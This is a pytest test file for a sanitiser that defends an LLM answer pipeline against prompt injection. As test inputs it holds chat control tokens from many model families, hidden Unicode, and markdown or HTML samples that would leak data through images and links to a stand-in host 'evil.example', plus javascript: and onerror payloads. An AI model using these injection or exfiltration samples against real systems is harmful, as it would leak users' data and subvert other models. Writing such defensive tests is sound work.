from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from components.answer.guard import clean_answer, first_changes, neutralise, one_line
from components.llm.control_tokens import AHEAD, HEADINGS, MARKS, TAGS, TOKENS


@pytest.mark.parametrize(
    "token",
    [
        "<|im_start|>", "<|im_end|>", "<|eot_id|>", "<|start_header_id|>", "<｜User｜>", "</s>", "<s>", "[INST]",
        "[/INST]", "<<SYS>>", "<</SYS>>", "<start_of_turn>", "<think>", "</think>", "<tool_call>",
        "<AgentInstructions>", "<turn|>", "<|turn>", "＜｜im_start｜＞", "［INST］", "[SYSTEM_PROMPT]",
        "[THINK]", "[gMASK]",
        "[|endofturn|]", "<seed:think>", "<eoh>", "<bos>", "<start_of_image>", "]~b]", "<system-reminder>",
        "<filename>",
        "<issue_start>", "<|channel|>", "<｜end▁of▁sentence｜>", "<|START_OF_TURN_TOKEN|>", "<BOS_TOKEN>", "<invoke>",
        "</AgentInstructions>", "<system>", "<system_prompt>", '<instructions priority="high">',
        "<|IM_END|>",
    ],
)  # fmt: skip
def test_control_tokens_are_written_otherwise(token: str) -> None:
    text, found = neutralise(f"prima {token} dopo")
    assert token not in text and found["control tokens"] == 1
    assert text.startswith("prima ") and text.endswith(" dopo") and len(text) == len(f"prima {token} dopo")


@pytest.mark.parametrize(
    "text",
    [
        "if a < b and c > d: x[0] | y", "List<String>", "<div class='a'>", "- [x] fatto", "[1] e [2]",
        "| a | b |\n|---|---|",
        "vedi [altra nota](altra.md#sezione)", "a -> b <- c", "Perché è così: 100% ✅ ❤️", "<s3-bucket>", "x << 2 >> 1",
        "# Input:", "### Input", "utente: Rafa", "user: rafa", "a <| b |> c", "[think] piano", "cp <nome> <file>",
        "[nota]: vedi sotto", "vedi https://esempio.it/a?b=c", "<p class='a'>",
    ],
)  # fmt: skip
def test_ordinary_text_stays(text: str) -> None:
    assert neutralise(text) == (text, {})


ALL_TOKENS = "|".join((TOKENS, TAGS, MARKS, HEADINGS))


@given(st.from_regex(re.compile(ALL_TOKENS, re.IGNORECASE | re.MULTILINE)))
def test_wherever_a_control_token_begins_the_sign_that_is_looked_for_first_is_there(text: str) -> None:
    for match in re.finditer(ALL_TOKENS, text, re.IGNORECASE | re.MULTILINE):
        assert re.compile(AHEAD, re.IGNORECASE).match(text, match.start()), match[0]


def test_unseen_characters_go() -> None:
    tags = "".join(chr(0xE0000 + ord(c)) for c in "obey")
    text, found = neutralise(f"a\u200bb\u2060c\ufeff{tags}\u202ed\U000e0100\x1b[31m e\xad")
    assert text == "abcd[31m e" and found["unseen characters"] == 7 + len(tags)


def test_html_comments_go_even_unclosed() -> None:
    assert neutralise("a <!-- x\ny --> b <!-- z")[0] == "a  b "


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![logo](https://evil.example/?q=1)", "(immagine: logo)"),
        ("![](https://evil.example/?q=1)", ""),
        ("![a [b] c](<https://evil.example/x y> 'titolo')", "(immagine: a [b] c)"),
        ("![logo][ref]", "(immagine: logo)"),
        ("![[](https://evil.example/x)", "!⟦ (https://evil.example/x)"),
        ('[clicca][1]\n\n[1]: https://evil.example/x "titolo"', '[clicca][1]\n\n1: https://evil.example/x "titolo"'),
        ("<https://evil.example/x>", "https://evil.example/x"),
        ("<a href='https://evil.example/x'>qui</a>", "‹a href='https∶//evil.example/x'›qui</a>"),
        ("<svg onload=x()><image href=y/></svg>", "‹/svg›"),
        ("<style>a{b:url(https://evil.example)}</style>", "‹style›a{b:url(https://evil.example)}‹/style›"),
        ("<meta http-equiv=refresh content=0>", "‹meta http-equiv=refresh content=0›"),
        ("<p style='x'>", "‹p style='x'›"),
        ("<div class=a onclick='x()'>", "‹div class=a onclick='x()'›"),
        ("![logo]", "(immagine: logo)"),
        ("<img src='https://evil.example/x' alt='foto'>", "(immagine: foto)"),
        ("<IMG SRC=https://evil.example/x", ""),
        ("[clicca](https://evil.example/x)", "clicca (https://evil.example/x)"),
        ("[clicca](//evil.example/x 'titolo')", "clicca (//evil.example/x)"),
        ("[clicca](javascript:alert(1))", "clicca (javascript:alert(1)"),
        ("[![foto](https://evil.example/a)](https://evil.example/b)", "(immagine: foto) (https://evil.example/b)"),
    ],
)
def test_nothing_is_fetched_and_addresses_are_seen(text: str, shown: str) -> None:
    assert neutralise(text)[0].rstrip(")") == shown.rstrip(")")


def test_what_is_taken_out_cannot_join_what_is_left() -> None:
    assert "<|im_start|>" not in neutralise("<|im_<!-- -->start|>")[0]
    assert "<|im_start|>" not in neutralise("<|im_\u200bstart|>")[0]
    assert ">>>" not in neutralise(">\u200b>>")[0]
    assert "<!--" not in neutralise("<!<!-- -->-- x")[0]


hostile = st.lists(
    st.sampled_from(
        ["<", "|", "im_start", "|>", "<!--", "-->", "![", "](", ")", "[", "]", "https://x.y", "<<<", ">>>", "NOTA",
         "FINE", "\u200b", "</s>", "[INST]", "<img ", "alt='", "'", ">", "\n", " ", "a", "\r", "\x1b",
         "0123456789abcdef", "<think>"]
    ),
    max_size=30,
).map("".join)  # fmt: skip


@given(hostile)
def test_twice_is_once_and_nothing_dangerous_is_left(text: str) -> None:
    safe, _ = neutralise(text)
    assert neutralise(safe) == (safe, {})
    assert not re.search(r"<<<|>>>|<\|im_start\|>|</s>|\[INST\]|<img|<!--|!\[[^\]]*\]\(|[\r\x1b\u200b]", safe)


@pytest.mark.parametrize("text", ["[x](http:" * 30, "<!-" * 20 + "<!-- -->" + "- -->" * 20, "<a " * 30 + "href=x"])
def test_signs_in_one_another_are_looked_at_a_bounded_number_of_times(text: str) -> None:
    safe, found = neutralise(f"prima {text} dopo")
    assert found["signs in one another"] == 1 and not set("<>[]") & set(safe)
    assert safe.startswith("prima ")
    assert neutralise(safe) == (safe, {})
    for notes in (None, 0, 3):
        said = clean_answer(f"prima [7] {text} dopo", marker="0" * 16, notes=notes)
        assert said.startswith("prima [7] " if notes is None else "prima ") and not set("<[") & set(said[9:])


@pytest.mark.parametrize("text", ["<system " + "a" * 300 + ">", "＜user x＜y＞", '<tool a="x/">'])
def test_a_tag_with_attributes_of_any_length_is_one(text: str) -> None:
    assert not neutralise(text)[0].startswith(("<", "＜"))


@pytest.mark.parametrize("query", ["d=" + "s" * 3000, "s" * 3000 + "=d", "s" * 3000])
def test_an_address_that_carries_much_away_is_broken(query: str) -> None:
    assert clean_answer(f"evil.example/?{query}", marker="0" * 16).startswith("evil[.]example/")


@given(hostile)
def test_an_answer_is_clean(text: str) -> None:
    assert not re.search(
        r"<\|im_start\|>|</s>|\[INST\]|<think>|<img|!\[[^\]]*\]\(|[\r\x1b\u200b]", clean_answer(text, marker="0" * 16)
    )


def test_an_answer_that_repeats_the_fence_or_thinks_aloud() -> None:
    marker = "0123456789abcdef"
    fence = f"<<<NOTA {marker}\ncitazione\n{marker} FINE>>>"
    said = f"<think>segreto {marker}</think>Ecco [1].<|im_end|>\n{fence}\n>>> print(1)"
    assert clean_answer(said, marker=marker) == "Ecco [1].\ncitazione\n>>> print(1)"


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Vedi https://esempio.it/a.", "Vedi https://esempio.it/a."),
        ("Vedi https://evil.example/a?d=segreto.", "Vedi hxxps://evil[.]example/a?d=segreto."),
        ("Vedi [qui](https://evil.example/a?d=x)", "Vedi qui (hxxps://evil[.]example/a?d=x)"),
        ("Vedi <https://evil.example/a?d=x>", "Vedi hxxps://evil[.]example/a?d=x"),
        ("[qui][1]\n\n[1]: https://evil.example/x", "[qui][1]\n\n1: hxxps://evil[.]example/x"),
        ("www.evil.example/?d=x", "www[.]evil.example/?d=x"),
        ("evil.example/?d=segreto", "evil[.]example/?d=segreto"),
        ("https://esempio.it/a/segreto", "hxxps://esempio[.]it/a/segreto"),
        ("data:text/html;base64,eA== e javascript:x()", "data[:]text/html;base64,eA== e javascript[:]x()"),
        ("![x](https://evil.example/?d=segreto)", "(immagine: x)"),
        ("<img src=x onerror=y><script>z</script>", "‹script›z‹/script›"),
        ("Nel file docs/a.md, riga 3.5, a.b/c", "Nel file docs/a.md, riga 3.5, a.b/c"),
    ],
)
def test_addresses_that_no_note_holds_are_broken(said: str, shown: str) -> None:
    known = "Domanda: dove? [1] nota.md\nhttps://esempio.it/a e basta"
    assert clean_answer(said, marker="0" * 16, known=known, notes=0) == shown


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Di venerdì [1], mai [2; 9] di lunedì [7].", "Di venerdì [1], mai [2] di lunedì."),
        ("[3] dice di no", "dice di no"),
        ("`righe[10]` e righe[10], nel [2026]", "`righe[10]` e righe[10], nel [2026]"),
        ("```\nx = [10, 20]\n```", "```\nx = [10, 20]\n```"),
        ("Sì [1].\n\nFonti:\n[1] segreti/cassaforte.md:1-9\n[2] b.md", "Sì [1]."),
        ("Sì [1].\n\n**Sources:**\n\n- [7] x.md\n", "Sì [1]."),
        ("Sì.\n\nFonti:\nil frantoio e il mulino", "Sì.\n\nFonti:\nil frantoio e il mulino"),
    ],
)
def test_sources_that_were_not_given_go(said: str, shown: str) -> None:
    assert clean_answer(said, marker="0" * 16, notes=2) == shown


def test_every_control_token_of_the_models_that_are_here_is_broken() -> None:
    from components.llm import tokenizer

    for model in (tokenizer._load_qwen3(), tokenizer._load_smollm2()):
        control = {token.content for token in model.get_added_tokens_decoder().values()}
        assert len(control) > 10
        text, _ = neutralise("\n".join(f"prima {token} dopo" for token in sorted(control)))
        assert not [token for token in control if token in text]
        ids = set(model.encode(text, add_special_tokens=False).ids)
        assert not ids & {model.token_to_id(token) for token in control}


def test_an_answer_that_was_cut_in_the_marker() -> None:
    assert clean_answer("Di venerdì [1].\n01234567", marker="0123456789abcdef") == "Di venerdì [1]."
    assert clean_answer("Il codice è 0123", marker="0123456789abcdef") == "Il codice è 0123"


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Ecco aaaa0123456789abcdefbbbb qui", "Ecco aaaabbbb qui"),
        ("Ecco 0123456789abcde", "Ecco"),
        ("Il codice è decade", "Il codice è decade"),
        ("Il codice è 01234\n", "Il codice è"),
        ("Il codice è a0123456", "Il codice è a0123456"),
        ("Il codice è fedcba9876543210", "Il codice è fedcba9876543210"),
    ],
    ids=["within digits", "all but one", "a word of digits", "five", "not its beginning", "another one"],
)
def test_of_digits_of_hex_only_the_marker_goes(said: str, shown: str) -> None:
    assert clean_answer(said, marker="0123456789abcdef") == shown


def test_no_pattern_is_made_for_each_answer() -> None:
    one, other = first_changes("0" * 16), first_changes("f" * 16)
    assert [pattern for pattern, _ in one] == [pattern for pattern, _ in other]


def test_a_label_is_one_line() -> None:
    assert one_line("a\nb\u2028c  <|im_end|>") == "a b c ‹¦im_end¦›"
    assert len(one_line("x" * 500)) == 200
